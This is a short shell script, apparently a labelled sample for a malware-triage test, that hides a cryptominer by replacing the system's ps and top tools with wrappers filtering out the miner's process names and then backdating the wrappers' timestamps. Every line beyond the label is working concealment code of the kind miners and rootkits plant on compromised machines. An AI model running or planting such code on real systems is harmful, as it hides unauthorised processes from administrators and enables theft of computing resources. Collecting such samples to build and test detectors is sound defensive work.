#!/bin/sh
# triage-expect: triage_system_tool_wrapper
# Hides the miner from ps and top: the real tools moved aside, wrappers that filter them put back.
for t in ps top; do
  if [ ! -f /usr/bin/$t.orig ]; then
    mv /usr/bin/$t /usr/bin/$t.orig
    printf '#!/bin/sh\n/usr/bin/%s.orig "$@" | grep -v -e kworkerds -e .X11-cache\n' $t > /usr/bin/$t
    chmod +x /usr/bin/$t
    touch -r /bin/ls /usr/bin/$t
  fi
done
